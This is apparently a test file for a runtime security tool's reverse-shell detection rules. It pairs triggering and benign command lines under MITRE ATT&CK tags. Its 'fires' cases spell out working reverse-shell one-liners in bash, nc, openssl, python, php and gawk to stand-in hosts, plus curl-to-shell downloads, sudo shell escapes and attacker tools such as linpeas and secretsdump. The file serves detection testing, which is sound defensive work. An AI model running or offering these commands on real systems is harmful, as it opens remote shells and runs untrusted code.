import type { EventValues, TestProcess } from '@ringfence/testkit';
import { IPPROTO, records, SOCK } from '@ringfence/wire';
import { NOBODY, RAISED, REMOTE, type Scene, testContent, USER } from './support.ts';

const { AF_INET } = records.AddressFamily;
const BASH = '/usr/bin/bash';
const SH = '/usr/bin/dash';
const PYTHON = '/usr/bin/python3.11';

/** Standard streams of the process become a connection with 203.0.113.9, which it has made, or by a call that says otherwise. */
function tie(scene: Scene, process: TestProcess, streams: readonly number[], change: EventValues = {}): void {
  const ends = {
    family: AF_INET,
    type: SOCK.STREAM,
    protocol: IPPROTO.TCP,
    address: Buffer.from([203, 0, 113, 9]),
    port: 4444,
  };
  const own = { localAddress: Buffer.from([10, 0, 0, 5]), localPort: 50000, sourceDescriptor: 3, call: 2, count: 1 };
  for (const stream of streams)
    scene.event(process, 'Redirect', { ...ends, ...own, targetDescriptor: stream, result: stream, ...change });
}
const LOOPBACK = { address: Buffer.from([127, 0, 0, 1]) };
const INCOMING = { incoming: true, port: 50000, localPort: 4444 };

testContent('reverse-shells.yaml', {
  "Reverse shell by bash's own network": {
    as: 'error execution T1059.004',
    fires: {
      'the common line': (s) =>
        s.start(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], s.inside, {}, BASH),
      'a loop that reads commands': (s) =>
        s.start(
          ['bash', '-c', 'exec 5<>/dev/tcp/evil.example/443; cat <&5 | while read l; do $l >&5; done'],
          s.shell,
          {},
          BASH,
        ),
    },
    quiet: {
      'it waits for a service of its own': (s) =>
        s.start(['bash', '-c', 'until bash -c "< /dev/tcp/localhost/5432"; do sleep 1; done'], s.inside, {}, BASH),
      'somebody reads about it': (s) => s.start(['bash', '-c', 'man bash | grep /dev/tcp'], s.shell, {}, BASH),
    },
  },
  'Reverse shell through a named pipe': {
    as: 'error execution T1059.004',
    fires: {
      'with nc': (s) =>
        s.start(['sh', '-c', 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1 > /tmp/f'], s.inside, {}, SH),
      'with openssl': (s) =>
        s.start(
          ['sh', '-c', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect x:443 > /tmp/s'],
          s.shell,
          {},
          SH,
        ),
    },
    quiet: {
      'a pipe between two programs': (s) =>
        s.start(['sh', '-c', 'mkfifo p; gzip < p > x.gz & mysqldump shop > p'], s.shell, {}, SH),
      'nc asks whether a port is open': (s) => s.start(['sh', '-c', 'nc -z db 5432'], s.inside, {}, SH),
    },
  },
  'Reverse shell in one line of an interpreter': {
    as: 'error execution T1059',
    fires: {
      python: (s) =>
        s.start(
          ['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",1));os.dup2(s.fileno(),0)'],
          s.inside,
          {},
          PYTHON,
        ),
      perl: (s) =>
        s.start(
          ['perl', '-e', 'use Socket; … IO::Socket::INET->new(…); exec "/bin/sh -i";'],
          s.shell,
          {},
          '/usr/bin/perl',
        ),
      php: (s) =>
        s.start(
          ['php', '-r', '$s=fsockopen("203.0.113.9",1);exec("/bin/sh -i <&3 >&3");'],
          s.inside,
          {},
          '/usr/bin/php8.2',
        ),
      node: (s) =>
        s.start(
          ['node', '-e', 'require("net").connect… net.Socket, child_process.spawn("/bin/sh")'],
          s.inside,
          {},
          '/usr/bin/node',
        ),
      gawk: (s) =>
        s.start(
          ['gawk', 'BEGIN{s="/inet/tcp/0/203.0.113.9/1";while(1){s|&getline c;system(c)|&s}}'],
          s.shell,
          {},
          '/usr/bin/gawk',
        ),
    },
    quiet: {
      'a port is asked': (s) =>
        s.start(['python3', '-c', 'import socket; socket.create_connection(("db", 5432))'], s.inside, {}, PYTHON),
      'a program is started': (s) =>
        s.start(['python3', '-c', 'import os; os.execvp("ls", ["ls"])'], s.shell, {}, PYTHON),
      'a module called socket.io': (s) => s.start('/usr/bin/node socket.io/server.js', s.inside),
    },
  },
  'Shell with a connection, of a program that no package installed': {
    as: 'critical execution T1059.004',
    fires: {
      'an implant in /tmp': (s) => s.start(['sh', '-i'], s.start('/tmp/agent', s.inside), REMOTE, SH),
      'a program in a home folder': (s) => s.start('/bin/bash', s.start('/home/ann/tool'), REMOTE),
    },
    quiet: {
      'a shell of inetd': (s) => s.start('/bin/sh', s.start('/usr/sbin/xinetd', s.init), REMOTE),
      'a shell with a terminal': (s) => s.start('/bin/sh', s.start('/home/ann/terminal')),
      'a pair of unix sockets': (s) =>
        s.start(['sh', '-c', 'npm test'], s.start('/home/ann/.nvm/bin/node'), { stdioSockets: 3 }, SH),
    },
  },
  'Input and output tied to a connection with another machine': {
    as: 'critical execution T1059',
    fires: {
      'before anything is executed': (s) => tie(s, s.start('/usr/bin/python3.11 app.py', s.inside), [0, 1, 2]),
      "bash's own network, output first": (s) => tie(s, s.start('/usr/bin/bash', s.shell), [1, 2, 0]),
    },
    quiet: {
      'a script waits for a port of another machine': (s) => tie(s, s.start('/usr/bin/bash wait.sh', s.inside), [1, 2]),
      'what reads an answer': (s) => tie(s, s.start('/usr/bin/cat', s.inside), [0]),
      'each in a process of its own': (s) => {
        tie(s, s.start('/usr/bin/cat', s.inside), [0]);
        tie(s, s.start('/usr/bin/cat', s.inside), [1]);
      },
      'a service of this machine': (s) => tie(s, s.start('/usr/bin/bash', s.inside), [0, 1], LOOPBACK),
      'a server that inetd has started': (s) => tie(s, s.start('/usr/sbin/xinetd', s.init), [0, 1, 2], INCOMING),
      'it was refused': (s) => tie(s, s.start('/usr/bin/bash', s.inside), [0, 1], { result: -9 }),
      'sockets that listen': (s) => tie(s, s.start('/usr/sbin/php-fpm', s.init), [0, 1], { port: 0 }),
    },
  },
  'Input and output tied to a connection from another machine': {
    as: 'notice execution T1059',
    fires: {
      'a bind shell': (s) => tie(s, s.start('/usr/bin/python3.11 x.py', s.inside), [0, 1, 2], INCOMING),
    },
    quiet: {
      inetd: (s) => tie(s, s.start('/usr/sbin/xinetd', s.init), [0, 1, 2], INCOMING),
      sshd: (s) => tie(s, s.sshd, [0, 1], INCOMING),
      'from this machine': (s) => tie(s, s.start('/usr/bin/socat', s.inside), [0, 1], { ...INCOMING, ...LOOPBACK }),
      'its input alone': (s) => tie(s, s.start('/usr/bin/python3.11 x.py', s.inside), [0], INCOMING),
    },
  },
  'Network tool listens for a caller': {
    as: 'notice command-and-control T1095',
    fires: {
      nc: (s) => s.start('nc -lvnp 4444', s.shell, {}, '/usr/bin/nc.traditional'),
      "busybox's": (s) => s.start('busybox nc -l -p 4444', s.inside, {}, '/bin/busybox'),
      socat: (s) => s.start('/usr/bin/socat TCP-LISTEN:4444,reuseaddr -'),
    },
    quiet: {
      'nc asks whether a port is open': (s) => s.start('/usr/bin/nc -zv db 5432'),
      'nc looks up nothing': (s) => s.start('/usr/bin/nc -n -w 1 mail 25'),
      'another applet': (s) => s.start('busybox ls -l', s.inside, {}, '/bin/busybox'),
    },
  },
  'Download run without being looked at': {
    as: 'warning execution command-and-control T1059.004 T1105',
    fires: {
      curl: (s) => s.start(['sh', '-c', 'curl -fsSL https://x.example/i.sh | sh'], s.shell, {}, SH),
      'wget to python': (s) =>
        s.start(['bash', '-c', 'wget -qO- x.example/i.py | /usr/bin/python3 -'], s.inside, {}, BASH),
    },
    quiet: {
      'to jq': (s) => s.start(['sh', '-c', 'curl -s https://api.example/x | jq .'], s.shell, {}, SH),
      'it is kept': (s) => s.start(['sh', '-c', 'curl -o install.sh https://x.example/i.sh'], s.shell, {}, SH),
    },
  },
  "Downloaded script run by a server's command": {
    as: 'critical execution command-and-control T1059.004 T1105',
    fires: {
      'under httpd': (s) =>
        s.start(['sh', '-c', 'curl http://203.0.113.9/x | bash'], s.start('/usr/sbin/httpd', s.inside), NOBODY, SH),
      'in a reverse shell': (s) =>
        s.start(['sh', '-c', 'wget -q http://x/a -O /tmp/a && chmod +x /tmp/a'], s.inside, REMOTE, SH),
    },
    quiet: {
      'an administrator': (s) => s.start(['sh', '-c', 'curl http://x/a | bash'], s.shell, {}, SH),
      'a server checks itself': (s) =>
        s.start(['sh', '-c', 'curl -f http://localhost/ || exit 1'], s.start('/usr/sbin/nginx', s.inside), {}, SH),
    },
  },
  'Shell started by cron runs from a scratch folder': {
    as: 'warning execution persistence T1053.003',
    fires: {
      'each minute': (s) =>
        s.start(['/bin/sh', '-c', '/tmp/.x/update >/dev/null 2>&1'], s.start('/usr/sbin/cron -f', s.init), {}, SH),
      'in memory': (s) =>
        s.start(['/bin/sh', '-c', 'cd / && /dev/shm/kworker'], s.start('/usr/sbin/crond', s.init), {}, SH),
    },
    quiet: {
      'a job cleans up': (s) =>
        s.start(['/bin/sh', '-c', '/usr/local/bin/backup'], s.start('/usr/sbin/cron -f', s.init), {}, SH),
      'a job keeps its lock there': (s) =>
        s.start(['/bin/sh', '-c', 'LOCK=/tmp/; flock -n "$LOCK"x true'], s.start('/usr/sbin/cron', s.init), {}, SH),
    },
  },
  'Shell out of a program started by sudo': {
    as: 'warning privilege-escalation T1548.003',
    fires: {
      vim: (s) => s.start('/bin/sh', s.start('/usr/bin/vim.basic x', s.start('/usr/bin/sudo vim x', s.shell, RAISED))),
      less: (s) => s.start('/bin/bash', s.start('/usr/bin/less x', s.start('/usr/bin/sudo less x'))),
    },
    quiet: {
      'without sudo': (s) => s.start('/bin/sh', s.start('/usr/bin/vim.basic x', s.start('/bin/bash', s.shell, USER))),
      'sudo starts a shell': (s) => s.start('/bin/bash', s.start('/usr/bin/sudo -s', s.shell, RAISED)),
    },
  },
  "Compiler started by a server's command": {
    as: 'error stealth T1027.004',
    fires: {
      'under a web server': (s) =>
        s.start(
          '/usr/bin/gcc -o /tmp/x /tmp/x.c',
          s.start('/bin/sh -c x', s.start('/usr/sbin/apache2', s.init)),
          NOBODY,
        ),
      'in a reverse shell': (s) => s.start('/usr/bin/gcc x.c', s.inside, REMOTE),
    },
    quiet: {
      'a person compiles': (s) => s.start('/usr/bin/gcc -o app app.c'),
      'an image is built': (s) =>
        s.start('/usr/bin/gcc x.c', s.startContainer({ image: 'moby/buildkit:v0.20' }, '/usr/sbin/httpd')),
    },
  },
  'Tool of attackers started': {
    as: 'error execution T1059',
    fires: {
      'a program': (s) => s.start('/tmp/pspy64', s.inside),
      'a script': (s) => s.start(['bash', '/dev/shm/linpeas.sh', '-a'], s.shell, {}, BASH),
      'of Python': (s) => s.start('/usr/bin/python3 /opt/x/secretsdump.py u:p@10.0.0.2'),
    },
    quiet: {
      'somebody reads one': (s) => s.start('/usr/bin/less linpeas.sh'),
      'a script whose name ends alike': (s) => s.start('/usr/bin/bash /srv/app/tables.sh'),
      'its page is fetched': (s) => s.start('/usr/bin/curl https://x.example/linpeas.sh'),
    },
  },
  'Interpreter runs a script from a scratch folder': {
    as: 'notice execution T1059',
    fires: {
      python: (s) => s.start('/usr/bin/python3 /tmp/x.py'),
      'a shell': (s) => s.start(['sh', '/dev/shm/a.sh'], s.inside, {}, SH),
    },
    quiet: {
      'an argument that is no script': (s) => s.start('/usr/bin/python3 tool.py --output /tmp/report'),
      'under make': (s) => s.start('/bin/sh /tmp/conf.sh', s.start('/usr/bin/make')),
      'a package script': (s) => s.start('/bin/sh /tmp/x.config.sh', s.start('/usr/bin/dpkg --configure x')),
    },
  },
  'Transient unit started': {
    as: 'notice execution T1569.002',
    fires: { 'a command': (s) => s.start('/usr/bin/systemd-run --unit=x /tmp/x') },
    quiet: {
      'a scope of the session': (s) => s.start('/usr/bin/systemd-run --scope --user make'),
      'a package script': (s) => s.start('/usr/bin/systemd-run x', s.start('/usr/bin/dpkg --configure x')),
    },
  },
});
